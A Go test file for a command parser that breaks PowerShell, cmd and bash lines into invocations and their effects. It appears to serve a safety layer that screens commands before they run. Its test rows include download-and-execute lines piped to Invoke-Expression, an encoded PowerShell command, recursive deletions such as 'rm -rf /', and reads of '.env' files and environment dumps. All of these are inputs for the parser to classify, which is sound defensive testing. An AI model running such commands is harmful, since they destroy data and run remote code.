package shell

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
)

// psShow writes a reading on one line: each invocation with its words, how it
// is reached, how surely, where its output goes, and its effects.
func psShow(r *Reading) string {
	var out []string
	for _, inv := range r.Invocations {
		var b strings.Builder
		if len(inv.Via) > 0 {
			b.WriteString(strings.Join(inv.Via, ",") + "> ")
		}
		b.WriteString([...]string{"", "maybe ", "later "}[inv.Sure])
		b.WriteString(inv.Program.String())
		for _, w := range inv.Args {
			s := w.String()
			if s == "" {
				s = "''"
			}
			b.WriteString(" " + s)
		}
		for _, rd := range inv.Redirs {
			b.WriteString(" " + rd.Op + rd.Target.String())
		}
		switch {
		case inv.Stdin.Kind == FromPipe:
			fmt.Fprintf(&b, " <#%d", inv.Stdin.From)
		case inv.Stdin.Kind == FromText:
			b.WriteString(" <" + inv.Stdin.Text.String())
		}
		b.WriteString([...]string{"", " captured", " discarded", " piped", ""}[inv.Output])
		for _, e := range inv.Effects {
			b.WriteString(" [" + [...]string{"deletes", "spawns", "connects", "reads", "writes", "dumps"}[e.Kind] + " " + e.Path.String() + "]")
		}
		if inv.BodyUnknown {
			b.WriteString(" unknown")
		}
		out = append(out, b.String())
	}
	return strings.Join(out, " ; ")
}

func encoded(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

var powerShellRows = []struct{ text, want string }{
	{`Remove-Item -LiteralPath .\pipelines -Recurse -Force`, `Remove-Item -LiteralPath .\pipelines -Recurse -Force`},
	{`rm -Recurse C:\x`, `Remove-Item -Recurse C:\x`},
	{`rm -rf /`, `rm -rf /`},
	{`del a, b`, `Remove-Item a b`},
	{`ri -Path a, b -Force`, `Remove-Item -Path a -Path b -Force`},
	{`Remove-Item 'a b''c'`, `Remove-Item a b'c`},
	{"Remove-Item \"a `\"b`\" $x/$($y)\"", `Remove-Item a "b" $x/$()`},
	{"Remove-Item a` b", `Remove-Item a b`},
	{"Remove-Item `\n  -Recurse x", `Remove-Item -Recurse x`},
	{`Remove-Item $env:USERPROFILE\x`, `Remove-Item /home/u\x`},
	{`Remove-Item ~/x; rm ~`, `Remove-Item /home/u/x ; Remove-Item /home/u`},
	{`Remove-Item C:\*`, `Remove-Item C:\*`},
	{`$d = "C:\x"; Remove-Item $d -Recurse`, `Remove-Item C:\x -Recurse`},
	{`$d = Get-Location; Remove-Item $d`, `Get-Location captured ; Remove-Item $d`},
	{`Get-ChildItem x -Recurse | Remove-Item -Force`, `Get-ChildItem x -Recurse piped ; Remove-Item -Force <?> <#0`},
	{`gci x | % { del $_.FullName }`, `Get-ChildItem x piped ; ForEach-Object <#0 ; ForEach-Object> maybe Remove-Item $`},
	{`if (Test-Path x) { Remove-Item x } else { mkdir x }`, `Test-Path x captured ; maybe Remove-Item x ; maybe New-Item x`},
	{`foreach ($f in Get-ChildItem) { rm $f }`, `Get-ChildItem captured ; maybe Remove-Item $f`},
	{`try { rm x } catch [Exception] { echo y }`, `Remove-Item x ; maybe Write-Output y`},
	{`function f { rm x }`, `later Remove-Item x`},
	{`function f { rm x }; f`, `maybe Remove-Item x ; f`},
	{`a && b || c`, `a ; maybe b ; maybe c`},
	{`& "C:\Program Files\x.exe" -a`, `C:\Program Files\x.exe -a`},
	{`& { rm x }`, `Remove-Item x`},
	{`. .\x.ps1 a`, `.\x.ps1 a`},
	{`iwr https://x/y.ps1 | iex`, `Invoke-WebRequest https://x/y.ps1 piped ; Invoke-Expression <#0 unknown`},
	{`iex (irm https://x)`, `Invoke-RestMethod https://x captured ; Invoke-Expression $(Invoke-RestMethod) unknown`},
	{`iex ((New-Object Net.WebClient).DownloadString('https://x'))`, `New-Object Net.WebClient captured ; .DownloadString https://x captured [connects https://x] ; Invoke-Expression $(.DownloadString) unknown`},
	{`Invoke-Expression 'rm x'`, `Invoke-Expression rm x ; Invoke-Expression> Remove-Item x`},
	{`"rm x" | iex`, `Invoke-Expression <rm x ; Invoke-Expression> Remove-Item x`},
	{`$c = 'rm x'; iex $c`, `Invoke-Expression rm x ; Invoke-Expression> Remove-Item x`},
	{`powershell -NoProfile -Command "Remove-Item x -Recurse"`, `powershell -NoProfile -Command Remove-Item x -Recurse ; powershell> Remove-Item x -Recurse`},
	{`pwsh -c Remove-Item x`, `pwsh -c Remove-Item x ; pwsh> Remove-Item x`},
	{`powershell -enc ` + encoded("rm x -Force"), `powershell -enc ` + encoded("rm x -Force") + ` ; powershell> Remove-Item x -Force`},
	{`pwsh -NoProfile -File ./script.ps1`, `pwsh -NoProfile -File ./script.ps1`},
	{`cmd /c "rd /s /q C:\x & del /f y"`, `cmd /c rd /s /q C:\x & del /f y ; cmd /c> rd /s /q C:\x ; cmd /c> del /f y`},
	{`cmd /c 'del x^&y'`, `cmd /c del x^&y ; cmd /c> del x&y`},
	{`cmd /c "if exist x rd/s/q x"`, `cmd /c if exist x rd/s/q x ; cmd /c> maybe rd /s/q x`},
	{`cmd /c "for %i in (a b) do del %i"`, `cmd /c for %i in (a b) do del %i ; cmd /c> maybe del $i`},
	{`cmd /c "type %APPDATA%\x | find ""a"" > o"`, `cmd /c type %APPDATA%\x | find "a" > o ; cmd /c> Get-Content $APPDATA\x piped ; cmd /c> findstr a >o <#1`},
	{`Start-Process cmd -ArgumentList '/c','del x'`, `Start-Process cmd -ArgumentList /c -ArgumentList del x ; Start-Process> cmd /c del x ; Start-Process,cmd /c> del x`},
	{`bash -c "rm -rf x"`, `bash -c rm -rf x ; bash -c> rm -rf x`},
	{`Get-Content .env > $null`, `Get-Content .env > discarded`},
	{`Get-Content .env | Out-Null`, `Get-Content .env discarded ; Out-Null <#0`},
	{`gc .env 2>&1 > out.txt`, `Get-Content .env >out.txt`},
	{`Get-ChildItem env:`, `Get-ChildItem env: [dumps ]`},
	{`[IO.File]::ReadAllLines("a\b") | ForEach-Object { $n,$v = $_ -split '=',2; Set-Item "env:$n" $v }`,
		`[IO.File]::ReadAllLines a\b piped [reads a\b] ; ForEach-Object <#0 ; ForEach-Object> maybe Set-Item env:$n $v`},
	{`[System.IO.Directory]::Delete("x", $true)`, `[System.IO.Directory]::Delete x true [deletes x]`},
	{`(Get-Item x).Delete()`, `Get-Item x captured ; .Delete captured [deletes $]`},
	{`Invoke-Command -ComputerName h -ScriptBlock { rm x }`, `Invoke-Command -ComputerName h -ScriptBlock ; Invoke-Command> Remove-Item x`},
	{"@'\nrm x\n'@ | Out-File f", "Out-File f <rm x"},
	{"# rm x\n<# rm y\n#> rm z", `Remove-Item z`},
	{`Write-Host "Remove-Item x"; echo 'rm y'`, `Write-Host Remove-Item x ; Write-Output rm y`},
	{`Set-Location C:\x; rm y`, `Set-Location C:\x ; Remove-Item y`},
	{`$h = @{ Authorization = "x; rm y" }; iwr u -Headers $h`, `Invoke-WebRequest u -Headers $h`},
	{`git push --force; npm run x -- -y`, `git push --force ; npm run x -- -y`},
	{`Remove-Item x -WhatIf:$false`, `Remove-Item x -WhatIf:false`},
	{`"a" > f.txt`, `Write-Output >f.txt`},
}

func TestPowerShell(t *testing.T) {
	o := Options{Home: "/home/u", Dir: "/home/u/app", PowerShell: true}
	for _, r := range powerShellRows {
		if got := psShow(Read(r.text, o)); got != r.want {
			t.Errorf("%s\n got %s\nwant %s", r.text, got, r.want)
		}
	}
}

func TestLooksLikePowerShell(t *testing.T) {
	for _, r := range []struct {
		text string
		want bool
	}{
		{`Remove-Item -LiteralPath .\x -Recurse`, true}, {`get-content x`, true}, {`Get-Content $env:APPDATA\x`, true}, {`$env:A = "b"`, true},
		{`[IO.File]::Delete("x")`, true}, {`gc C:\x`, true}, {`type C:\x`, true}, {`type rm`, false}, {`apt-get install x`, false},
		{`docker-compose up`, false}, {`[ -f x ]`, false}, {`echo 'Remove-Item x'`, false}, {`rm C:\x`, false}, {``, false}, {`$x`, false}, {`git-push`, false},
	} {
		if got := looksLikePowerShell(r.text); got != r.want {
			t.Errorf("%s: got %t, want %t", r.text, got, r.want)
		}
	}
}

func TestWindowsHostsInShell(t *testing.T) {
	for _, r := range []struct{ text, want string }{
		{`pwsh -NoProfile -Command "Remove-Item x -Recurse"`, `pwsh -NoProfile -Command Remove-Item x -Recurse ; pwsh> Remove-Item x -Recurse`},
		{`cmd.exe /c 'rd /s /q C:\x'`, `cmd.exe /c rd /s /q C:\x ; cmd /c> rd /s /q C:\x`},
		{`powershell.exe -File x.ps1`, `powershell.exe -File x.ps1`},
		{`Get-Content $env:APPDATA\airlock\env`, `Get-Content /home/u\AppData\Roaming\airlock\env`},
		{`Remove-Item -LiteralPath .\pipelines -Recurse -Force`, `Remove-Item -LiteralPath .\pipelines -Recurse -Force`},
	} {
		if got := psShow(Read(r.text, Options{Home: "/home/u"})); got != r.want {
			t.Errorf("%s\n got %s\nwant %s", r.text, got, r.want)
		}
	}
}

func TestPowerShellSpans(t *testing.T) {
	text := `a; rm x | b; iex 'c'`
	for _, inv := range Read(text, Options{PowerShell: true}).Invocations {
		if inv.Span.Start < 0 || inv.Span.End > len(text) || inv.Span.Start >= inv.Span.End {
			t.Errorf("%s at %v of %d", inv.Program, inv.Span, len(text))
		}
	}
}

func TestPowerShellHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIP: -short, as with the race detector: times and sizes mean little there")
	}
	if testing.Short() {
		t.Skip("hostile shapes take seconds")
	}
	const limit = 500 * time.Millisecond // ten times the goal: a busy machine is no fault
	for _, shape := range []string{"(", "{", "[", "$(", "\"", "'", "`", "a;", "a|", "@{", "@(", "\"$(", "iex '", "$a=", "$x.y(", "[a]::b(", "% {", "if(", "cmd /c ", "a,", "a ", "\"`a", "'a'", "$x", "<#", "#\n", "a>b ", "${", "function f{", "&", "@'\n"} {
		text := strings.Repeat(shape, (100<<10)/len(shape))
		least := time.Hour
		for range 3 {
			start := time.Now()
			Read(text, Options{PowerShell: true})
			if least = min(least, time.Since(start)); least < limit {
				break
			}
		}
		if least > limit {
			t.Errorf("%q repeated: %v, want under %v", shape, least, limit)
		}
	}
}

func FuzzPowerShell(f *testing.F) {
	for _, r := range powerShellRows {
		f.Add(r.text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, inv := range Read(text, Options{PowerShell: true, Home: "/h"}).Invocations {
			if inv.Span.Start < 0 || inv.Span.End > len(text) || inv.Span.Start > inv.Span.End {
				t.Errorf("%q: %s at %v", text, inv.Program, inv.Span)
			}
		}
	})
}
